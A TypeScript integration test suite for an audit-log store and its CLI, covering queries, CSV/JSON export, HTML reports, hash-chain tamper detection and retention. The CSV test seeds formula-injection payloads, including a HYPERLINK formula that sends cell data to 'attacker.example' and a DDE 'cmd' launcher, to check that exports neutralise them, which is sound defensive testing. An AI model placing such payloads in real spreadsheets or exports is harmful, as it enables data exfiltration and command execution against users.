import { execFile } from "node:child_process";
import { randomUUID } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import {
  type AttributeValue,
  DeleteItemCommand,
  type DynamoDBClient,
  GetItemCommand,
  UpdateItemCommand,
} from "@aws-sdk/client-dynamodb";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { DynamoDbLocal } from "../../devtools/dynamodb-local.js";
import { retention } from "../../src/app.js";
import { createAuditStore } from "../../src/aws/audit/index.js";
import { AUDIT_TTL_ATTRIBUTE } from "../../src/aws/audit-table.js";
import { ensureAuditTable } from "../../src/aws/audit-table-init.js";
import { parseConfig } from "../../src/config/config.js";
import { AUDIT_ATTRIBUTES, type AuditAction } from "../../src/ports/records.js";
import { sweep } from "../../src/sweep/sweep.js";
import { sweepPorts } from "../../src/sweep/types.js";
import { type SeededTrail, seedTrail, TRICKY } from "../support/audit-trail.js";
import { offlineBrowser } from "../support/browser.js";
import { csvObjects, unneutralise } from "../support/csv.js";
import { auditAction, type Event, FakeOrganizations, handshake } from "../support/fakes.js";
import { localDynamoDbClient, runCli, sharedDynamoDbLocal } from "../support/stack.js";

const tableName = `compliance-${randomUUID().slice(0, 8)}`;
const RECIPES_PAGE = new URL("../../docs/audit.md", import.meta.url);
let db: DynamoDbLocal;
let client: DynamoDBClient;
let env: Record<string, string>;
let trail: SeededTrail;
let dir: string;
/** Every command the client sent, by name: how a result was obtained, not just what it was. */
const sent: string[] = [];

// March 2026: 20 runs 37 hours apart, all in one month bucket; the 30-day default window cuts it.
const START = new Date("2026-03-01T06:00:00.000Z");

beforeAll(async () => {
  db = await sharedDynamoDbLocal();
  dir = mkdtempSync(join(tmpdir(), "audit-compliance-"));
  client = localDynamoDbClient(db.endpoint, (name) => sent.push(name));
  await ensureAuditTable(client, tableName);
  trail = await seedTrail(createAuditStore({ client, tableName }), { prefix: "c", runs: 20, start: START });
  env = {
    AWS_ENDPOINT_URL_DYNAMODB: db.endpoint,
    AWS_ACCESS_KEY_ID: "local",
    AWS_SECRET_ACCESS_KEY: "local",
    AWS_REGION: "us-east-1",
    AUDIT_TABLE_NAME: tableName,
  };
}, 120_000);

afterAll(async () => {
  client?.destroy();
  await db?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

beforeEach(() => {
  sent.length = 0;
});

const key = (a: { runId: string; handshakeId: string }) => `${a.runId}/${a.handshakeId}`;
const keys = (list: readonly { runId: string; handshakeId: string }[]) => list.map(key).sort();
const inRange = (a: AuditAction, since: string, until: string) => a.at >= since && a.at <= until;

describe("audit query paths", () => {
  const store = () => createAuditStore({ client, tableName, now: () => new Date("2026-04-05T00:00:00Z") });
  const collect = async <T>(items: AsyncIterable<T>) => {
    const all: T[] = [];
    for await (const item of items) all.push(item);
    return all;
  };

  it("answers every filter and combination with Query and the expected items, never a Scan", async () => {
    const [first, second] = trail.actions as [AuditAction, AuditAction];
    const since = "2026-03-05T00:00:00.000Z";
    const until = "2026-03-20T00:00:00.000Z";
    const range = { since: new Date(since), until: new Date(until) };
    const cases: [string, Parameters<ReturnType<typeof store>["queryActions"]>[0], AuditAction[]][] = [
      ["run", { runId: first.runId }, trail.actions.filter((a) => a.runId === first.runId)],
      ["run + handshake", { runId: first.runId, handshakeId: second.handshakeId }, [second]],
      [
        "run + outcome",
        { runId: first.runId, outcome: "CANCELED" },
        trail.actions.filter((a) => a.runId === first.runId && a.outcome === "CANCELED"),
      ],
      [
        "run + range",
        { runId: first.runId, ...range },
        trail.actions.filter((a) => a.runId === first.runId && inRange(a, since, until)),
      ],
      ["handshake", { handshakeId: first.handshakeId }, [first]],
      ["handshake + range", { handshakeId: first.handshakeId, ...range }, []],
      ["rule", { ruleId: "outside-email" }, trail.actions.filter((a) => a.ruleId === "outside-email")],
      [
        "rule + range + outcome",
        { ruleId: "stale-invitations", outcome: "CANCELED", ...range },
        trail.actions.filter(
          (a) => a.ruleId === "stale-invitations" && a.outcome === "CANCELED" && inRange(a, since, until),
        ),
      ],
      ["range", range, trail.actions.filter((a) => inRange(a, since, until))],
      [
        "range across months",
        { since: new Date("2026-03-25T00:00:00Z"), until: new Date("2026-04-05T00:00:00Z") },
        trail.actions.filter((a) => a.at >= "2026-03-25"),
      ],
      [
        "outcome alone (last 30 days)",
        { outcome: "FAILED" },
        trail.actions.filter((a) => a.outcome === "FAILED" && a.at >= "2026-03-06"),
      ],
    ];
    for (const [name, filter, expected] of cases) {
      sent.length = 0;
      const found = await collect(store().queryActions(filter));
      expect(keys(found), name).toEqual(keys(expected));
      expect(sent.length, name).toBeGreaterThan(0);
      expect(new Set(sent), name).toEqual(new Set(["QueryCommand"]));
    }
    sent.length = 0;
    await collect(store().listRuns({ since: START, until: new Date("2026-05-01T00:00:00Z") }));
    await store().readChain(first.runId);
    await collect(store().exportActions({ since: START, until: new Date("2026-05-01T00:00:00Z") }));
    expect(sent).not.toContain("ScanCommand");
  });
});

describe("audit query from the command line", () => {
  const since = "2026-03-01T00:00:00.000Z";
  const until = "2026-04-30T00:00:00.000Z";

  it("prints JSON lines with every contract attribute", async () => {
    const result = await runCli(
      ["audit", "query", "--since", since, "--until", until, "--format", "json"],
      env,
    );
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
    const rows = result.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as AuditAction);
    expect(keys(rows)).toEqual(keys(trail.actions));
    const tricky = rows.find((row) => row.target === TRICKY.target);
    expect(tricky?.reason).toBe(TRICKY.reason);
  });

  it("prints CSV that parses back to the same values, tricky and formula-like ones included", async () => {
    // Values a spreadsheet would evaluate, in a run of their own (June 2025, a rule of its own),
    // apart from the trail the other tests count.
    const store = createAuditStore({ client, tableName });
    const formulaRun = "formula-run";
    const at = "2025-06-10T12:00:00.000Z";
    await store.startRun({
      runId: formulaRun,
      trigger: "manual",
      actor: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
      status: "RUNNING",
      dryRun: true,
      startedAt: at,
      counts: {},
      listed: 0,
      candidates: 0,
      matched: 0,
      configVersion: 1,
      configHash: "sha256:f",
    });
    const formulas = [
      ["=1+2", "+SUM(A1:A9)", "-2+3@gmail.com", "@cmd|' /C calc'!A0"],
      ["\t=tab", "\r=cr", "'=already quoted", '\'plain quote, "and a comma"'],
    ].map(([actor, reason, target, error], i) =>
      auditAction({
        runId: formulaRun,
        handshakeId: `h-formula${i}`,
        ruleId: "formula-rule",
        matchedRules: ["formula-rule", "-other"],
        outcome: "DRY_RUN",
        dryRun: true,
        at,
        trigger: "manual",
        actor: actor ?? "",
        target: target ?? "",
        reason: reason ?? "",
        ...(error ? { error } : {}),
      }),
    );
    for (const action of formulas) await store.recordAction(action);
    const asCsvText = (value: unknown) =>
      value === undefined ? "" : Array.isArray(value) ? value.join(",") : String(value);

    const [trailCsv, formulaCsv] = await Promise.all([
      runCli(["audit", "query", "--since", since, "--until", until, "--format", "csv"], env),
      runCli(["audit", "query", "--since", "2025-06-01", "--until", "2025-07-01", "--format", "csv"], env),
    ]);

    for (const [result, expected] of [
      [trailCsv, trail.actions],
      [formulaCsv, formulas],
    ] as const) {
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout.startsWith("at,runId,handshakeId,outcome,ruleId,matchedRules,")).toBe(true);
      const rows = csvObjects(result.stdout).map((row) =>
        Object.fromEntries(Object.entries(row).map(([name, value]) => [name, unneutralise(value)])),
      );
      expect(rows).toHaveLength(expected.length);
      const byKey = new Map(expected.map((a) => [key(a), a]));
      for (const row of rows) {
        const original = byKey.get(`${row.runId}/${row.handshakeId}`);
        expect(original).toBeDefined();
        for (const attribute of AUDIT_ATTRIBUTES) {
          expect(row[attribute], attribute).toBe(asCsvText(original?.[attribute]));
        }
      }
    }
    expect(csvObjects(trailCsv.stdout).some((row) => row.error === TRICKY.error)).toBe(true);
    // As written, before a reader takes the quote away: nothing begins a formula.
    const written = csvObjects(formulaCsv.stdout);
    expect(written.map((row) => row.actor).sort()).toEqual(formulas.map((a) => `'${a.actor}`).sort());
    expect(written.map((row) => row.target).sort()).toEqual(["'-2+3@gmail.com", "''=already quoted"].sort());
    expect(written.map((row) => row.error)).toContain('\'plain quote, "and a comma"');
  });

  it("prints an aligned table and narrows by rule and outcome", async () => {
    const result = await runCli(
      [
        "audit",
        "query",
        "--since",
        since,
        "--until",
        until,
        "--rule",
        "outside-email",
        "--outcome",
        "CANCELED",
      ],
      env,
    );
    expect(result.code).toBe(0);
    const [header, rule, ...lines] = result.stdout.trimEnd().split("\n");
    expect(header).toMatch(/^at\s+runId\s+handshakeId\s+outcome\s+ruleId\s+target\s+reason$/);
    expect(rule).toMatch(/^-+ {2}-+/);
    const expected = trail.actions.filter((a) => a.ruleId === "outside-email" && a.outcome === "CANCELED");
    expect(lines).toHaveLength(expected.length);
    expect(lines.every((line) => line.includes("CANCELED") && line.includes("outside-email"))).toBe(true);
  });
});

describe("audit runs", () => {
  it("lists every run with trigger, actor, status, counts per outcome, duration and config hash", async () => {
    const result = await runCli(
      ["audit", "runs", "--since", "2026-03-01", "--until", "2026-05-01", "--format", "csv"],
      env,
    );
    expect(result.code).toBe(0);
    const rows = csvObjects(result.stdout);
    expect(rows.map((row) => row.runId).sort()).toEqual(trail.runs.map((run) => run.runId).sort());
    for (const run of trail.runs) {
      const row = rows.find((r) => r.runId === run.runId);
      expect(row).toMatchObject({
        trigger: run.trigger,
        actor: run.actor,
        status: run.status,
        configHash: run.configHash,
        CANCELED: String(run.counts.CANCELED ?? 0),
        FAILED: String(run.counts.FAILED ?? 0),
        durationS: String((Date.parse(run.endedAt ?? "") - Date.parse(run.startedAt)) / 1000),
      });
    }
    const table = await runCli(["audit", "runs", "--since", "2026-03-01", "--until", "2026-05-01"], env);
    expect(table.stdout).toMatch(/CANCELED \d+/);
  });
});

describe("audit report", () => {
  it("renders totals, one bar per day with cancellations and every action, offline", async () => {
    const out = join(dir, "report.html");
    const result = await runCli(
      ["audit", "report", "--since", "2026-03-01", "--until", "2026-05-01", "--out", out],
      env,
    );
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
    expect(readFileSync(out, "utf8")).not.toContain("<script>alert");

    const browser = await offlineBrowser(mkdtempSync(join(dir, "chromium-")));
    try {
      const page = await browser.context.newPage();
      const requests: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      const url = pathToFileURL(out).href;
      await page.goto(url);

      expect(requests).toEqual([url]);
      const canceled = trail.actions.filter((a) => a.outcome === "CANCELED");
      expect(await page.textContent('#totals [data-outcome="CANCELED"] b')).toBe(String(canceled.length));
      expect(await page.textContent('#totals [data-outcome="ALL"] b')).toBe(String(trail.actions.length));
      expect(await page.locator("#actions tbody tr").count()).toBe(trail.actions.length);
      expect(await page.locator("#runs tbody tr").count()).toBe(trail.runs.length);
      const perDay = new Map<string, number>();
      for (const a of canceled) perDay.set(a.at.slice(0, 10), (perDay.get(a.at.slice(0, 10)) ?? 0) + 1);
      const bars = await page
        .locator("#per-day rect.bar")
        .evaluateAll((rects) =>
          rects.map((r) => [r.getAttribute("data-day"), Number(r.getAttribute("data-count"))]),
        );
      expect(new Map(bars as [string, number][])).toEqual(perDay);
      expect(await page.locator("#actions").textContent()).toContain(TRICKY.reason);
      expect(await page.locator("script").count()).toBe(0);
    } finally {
      await browser.close();
    }
  }, 60_000);
});

describe("audit verify", () => {
  it("finds every chain intact, then reports an altered and a deleted item", async () => {
    const intact = await runCli(["audit", "verify", "--since", "2026-03-01", "--until", "2026-05-01"], env);
    expect(intact.stdout).toContain(
      `intact: ${trail.runs.length} runs, ${trail.actions.length} action items`,
    );
    expect(intact.code).toBe(0);

    const run = trail.runs[2];
    const [altered, deleted] = trail.actions.filter((a) => a.runId === run?.runId) as [
      AuditAction,
      AuditAction,
    ];
    const itemKey = (a: AuditAction): Record<string, AttributeValue> => ({
      pk: { S: `RUN#${a.runId}` },
      sk: { S: `ACTION#${a.handshakeId}` },
    });
    await client.send(
      new UpdateItemCommand({
        TableName: tableName,
        Key: itemKey(altered),
        UpdateExpression: "SET ruleId = :r",
        ExpressionAttributeValues: { ":r": { S: "a-rule-that-never-matched" } },
      }),
    );
    await client.send(new DeleteItemCommand({ TableName: tableName, Key: itemKey(deleted) }));

    const counted = (a: AuditAction) =>
      trail.actions.filter((b) => b.runId === a.runId && b.outcome === a.outcome).length;
    const broken = await runCli(["audit", "verify", "--run", run?.runId ?? ""], env);
    expect(broken.code).toBe(5);
    const lines = broken.stdout.trim().split("\n");
    expect(lines).toEqual([
      expect.stringMatching(new RegExp(`item ${altered.handshakeId} \\(#\\d+\\): content altered`)),
      expect.stringMatching(/item #\d+ of \d+ missing/),
      // The run's counts still count the deleted item.
      `run ${run?.runId}: counts say ${deleted.outcome} ${counted(deleted)}, its items hold ${counted(deleted) - 1}`,
      expect.stringMatching(/^3 problems in 1 runs/),
    ]);
  });
});

describe("real-client recipes", () => {
  /** The commands as docs/audit.md shows them, by the comment above each. */
  function recipes(): Map<string, string> {
    const text = readFileSync(RECIPES_PAGE, "utf8");
    const block = /<!-- recipes:start -->\n```sh\n([\s\S]*?)```\n<!-- recipes:end -->/.exec(text)?.[1];
    if (!block) throw new Error("docs/audit.md has no recipes block");
    const found = new Map<string, string>();
    for (const part of block.split(/^# /m).filter(Boolean)) {
      const [title, ...rest] = part.split("\n");
      found.set(title?.replace(/ \(.*\)$/, "") ?? "", rest.join("\n").trim());
    }
    return found;
  }

  function awsCli(command: string, vars: Record<string, string>): Promise<AuditAction[]> {
    return new Promise((resolve, reject) => {
      execFile(
        "bash",
        ["-c", `${command} --endpoint-url "$DDB" --output json`],
        {
          env: {
            ...vars,
            ...env,
            DDB: db.endpoint,
            AWS_DEFAULT_REGION: "us-east-1",
            PATH: process.env.PATH ?? "",
            HOME: dir,
            AWS_PAGER: "",
          },
          timeout: 60_000,
        },
        (error, stdout, stderr) => {
          if (error) return reject(new Error(`${command}: ${stderr}`));
          const items = (JSON.parse(stdout) as { Items: Record<string, AttributeValue>[] }).Items;
          resolve(
            items.map(
              (item) =>
                ({
                  runId: item.runId?.S,
                  handshakeId: item.handshakeId?.S,
                  outcome: item.outcome?.S,
                }) as AuditAction,
            ),
          );
        },
      );
    });
  }

  async function cliJson(args: string[]): Promise<AuditAction[]> {
    const result = await runCli(["audit", "query", ...args, "--format", "json"], env);
    expect(result.code).toBe(0);
    return result.stdout.trim() === ""
      ? []
      : result.stdout
          .trim()
          .split("\n")
          .map((l) => JSON.parse(l) as AuditAction);
  }

  it("gives the same items as audit query for each recipe of the audit page", async () => {
    const commands = recipes();
    expect([...commands.keys()]).toEqual([
      "by run",
      "by handshake",
      "by rule and time range",
      "by time range, one month",
    ]);
    const [sample] = trail.actions.filter((a) => a.runId === trail.runs[5]?.runId) as [AuditAction];
    const vars = {
      RUN_ID: sample.runId,
      HANDSHAKE_ID: sample.handshakeId,
      RULE_ID: "outside-email",
      SINCE: "2026-03-05T00:00:00.000Z",
      UNTIL: "2026-03-25T00:00:00.000Z",
      MONTH: "2026-03",
    };
    const pairs: [string, string[]][] = [
      ["by run", ["--run", vars.RUN_ID]],
      ["by handshake", ["--handshake", vars.HANDSHAKE_ID]],
      ["by rule and time range", ["--rule", vars.RULE_ID, "--since", vars.SINCE, "--until", vars.UNTIL]],
      [
        "by time range, one month",
        ["--since", "2026-03-01T00:00:00.000Z", "--until", "2026-03-31T23:59:59.999Z"],
      ],
    ];
    const results = await Promise.all(
      pairs.map(
        async ([title, args]) =>
          [await awsCli(commands.get(title) ?? "false", vars), await cliJson(args)] as const,
      ),
    );
    for (const [i, [viaAws, viaJanitor]] of results.entries()) {
      expect(viaAws.length, pairs[i]?.[0]).toBeGreaterThan(0);
      expect(keys(viaAws), pairs[i]?.[0]).toEqual(keys(viaJanitor));
    }
  }, 120_000);
});

describe("retention and export", () => {
  it("writes expiresAt only when a retention is configured", async () => {
    const at = "2026-06-01T00:00:00.000Z";
    const item = (runId: string) =>
      auditAction({
        runId,
        handshakeId: "h-ttl",
        outcome: "DRY_RUN",
        dryRun: true,
        at,
        actor: "t",
        target: "x@gmail.com",
        reason: "r",
      });
    const kept = createAuditStore({ client, tableName, ...retention({}) });
    const expiring = createAuditStore({ client, tableName, ...retention({ AUDIT_RETENTION_DAYS: "30" }) });
    await kept.recordAction(item("ttl-off"));
    await expiring.recordAction(item("ttl-on"));
    const read = async (runId: string) =>
      (
        await client.send(
          new GetItemCommand({
            TableName: tableName,
            Key: { pk: { S: `RUN#${runId}` }, sk: { S: "ACTION#h-ttl" } },
          }),
        )
      ).Item;
    expect((await read("ttl-off"))?.[AUDIT_TTL_ATTRIBUTE]).toBeUndefined();
    expect((await read("ttl-on"))?.[AUDIT_TTL_ATTRIBUTE]).toEqual({
      N: String(Date.parse(at) / 1000 + 30 * 86_400),
    });
    expect(() => retention({ AUDIT_RETENTION_DAYS: "thirty" })).toThrow(/AUDIT_RETENTION_DAYS/);
  });

  it("exports every run and action of the period exactly once, as JSON lines and as CSV", async () => {
    const jsonl = join(dir, "export.jsonl");
    const csv = join(dir, "export.csv");
    const period = ["--since", "2026-03-01", "--until", "2026-05-01"];
    const [a, b] = await Promise.all([
      runCli(["audit", "export", ...period, "--format", "jsonl", "--out", jsonl], env),
      runCli(["audit", "export", ...period, "--format", "csv", "--out", csv], env),
    ]);
    expect([a.code, b.code, a.stderr, b.stderr]).toEqual([0, 0, "", ""]);
    const lines = readFileSync(jsonl, "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, string>);
    const rows = csvObjects(readFileSync(csv, "utf8"));
    for (const exported of [lines, rows]) {
      const actions = exported.filter((r) => r.itemType === "action");
      const runs = exported.filter((r) => r.itemType === "run");
      // The verify test deleted one action before this one ran (tests in a file run in order).
      expect(new Set(actions.map((r) => `${r.runId}/${r.handshakeId}`)).size).toBe(actions.length);
      expect(actions.length).toBe(trail.actions.length - 1);
      expect(runs.map((r) => r.runId).sort()).toEqual(trail.runs.map((r) => r.runId).sort());
      expect(actions.every((r) => String(r.chainHash).length === 64)).toBe(true);
    }
  });
});

describe("hash chain under concurrency", () => {
  it("stays one intact chain when a sweep's workers and a second writer append at once", async () => {
    const stamp = () => new Date("2026-05-02T10:00:00Z");
    const handshakes = Array.from({ length: 12 }, (_, i) =>
      handshake({
        id: `h-conc${String(i).padStart(8, "0")}`,
        target: { type: "EMAIL", value: `p${i}@gmail.com` },
      }),
    );
    const events: Event[] = [];
    const summary = await sweep(
      {
        config: parseConfig(
          'version: 1\ndryRun: false\nrules:\n  - id: outside-email\n    type: email\n    allow: ["*@example.com"]\n',
          "t.yaml",
        ),
        runId: "conc-sweep",
        trigger: "cli",
        actor: "tester",
        concurrency: 4,
      },
      {
        organizations: new FakeOrganizations(handshakes, events),
        ...sweepPorts(createAuditStore({ client, tableName })),
        now: stamp,
      },
    );
    expect(summary.counts).toEqual({ CANCELED: 12 });

    // Two stores are two processes as far as the chain is concerned: only the conditional head
    // update keeps them from forking it.
    const [one, two] = [createAuditStore({ client, tableName }), createAuditStore({ client, tableName })];
    const runId = "conc-two-writers";
    await one.startRun({
      runId,
      trigger: "manual",
      actor: "t",
      status: "RUNNING",
      dryRun: true,
      startedAt: stamp().toISOString(),
      counts: {},
      listed: 0,
      candidates: 0,
      matched: 0,
      configVersion: 1,
      configHash: "sha256:x",
    });
    const final = (i: number): AuditAction =>
      auditAction({
        runId,
        handshakeId: `h-two${i}`,
        ruleId: "outside-email",
        matchedRules: ["outside-email"],
        outcome: "DRY_RUN",
        dryRun: true,
        at: stamp().toISOString(),
        trigger: "manual",
        actor: "t",
        target: "x@gmail.com",
        reason: "r",
      });
    await Promise.all(Array.from({ length: 10 }, (_, i) => (i % 2 === 0 ? one : two).recordAction(final(i))));

    for (const id of ["conc-sweep", runId]) {
      const result = await runCli(["audit", "verify", "--run", id], env);
      expect(result.stdout.trim(), id).toBe(`intact: 1 runs, ${id === runId ? 10 : 12} action items`);
      expect(result.code).toBe(0);
    }
  }, 60_000);
});
